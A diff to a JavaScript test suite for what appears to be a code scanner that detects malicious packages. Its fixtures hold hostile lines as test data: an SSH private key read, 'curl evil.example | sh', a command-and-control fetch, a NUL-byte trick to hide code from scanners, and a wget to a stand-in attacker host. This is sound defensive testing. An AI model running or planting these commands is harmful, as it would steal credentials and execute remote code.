@@ -150,7 +150,7 @@ import cp from "#cp";
 slurp("/home/u/.ssh/id_rsa");
 cp.execSync("curl evil.example | sh");
 require("#lib/net").get("https://c2.evil.example/x");`,
-      "package.json": JSON.stringify({ name: "x", imports: { "#io": { node: "./lib/io.js", default: "./lib/io-browser.js" }, "#cp": "node:child_process", "#lib/*": "./lib/*.js" } }),
+      "package.json": JSON.stringify({ name: "x", imports: { "#io": { node: "./lib/io.js", default: "./lib/io-browser.js" }, "#cp": "node:child_process", "#lib/*": "./lib/decoy.js", "#lib/n*": "./lib/n*.js" } }),
       "lib/io.js": `exports.slurp = require("fs").readFileSync;`,
       "lib/net.js": `module.exports = require("https");`,
     };
@@ -210,9 +210,18 @@ require("#lib/net").get("https://c2.evil.example/x");`,
       "lib/io": `exports.slurp = require("fs").readFileSync;`,
       "settings.json": `{ "exec": "curl" }`,
     };
+    // A NUL byte, which makes the file look binary, does not hide it; a bundler's asset that is no JavaScript is no finding.
+    Object.assign(files, {
+      "b-main.js": `require("./blob.bin");\nconst icon = require("./icon.svg");`,
+      "blob.bin": `/*\0*/ require("child_process").exec("wget https://evil.example/y");`,
+      "icon.svg": `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h24v24H0z"/></svg>`,
+    });
     const findings = analyse(files).findings.filter((f) => !f.message.startsWith("Hands ")).map((f) => `${f.file}:${f.line} ${f.rule} ${f.severity} ${f.message.split(";")[0]}`);
     expect(findings.sort()).toEqual([
       "a-index.js:3 filesystem high Reads SSH keys (/home/u/.ssh/id_rsa)",
+      "blob.bin:0 disguised-code medium Loaded as code by b-main.js though its name is not a code file's",
+      "blob.bin:0 not-analysed medium A code file containing NUL bytes, a trick to make scanners treat it as binary",
+      'blob.bin:1 exec info Runs "wget" (child_process.exec)',
       "lib/io:0 disguised-code medium Loaded as code by a-index.js though its name is not a code file's",
       "payload.map:0 disguised-code medium Loaded as code by a-index.js though its name is not a code file's",
       'payload.map:1 exec info Runs "curl" (child_process.execSync)',
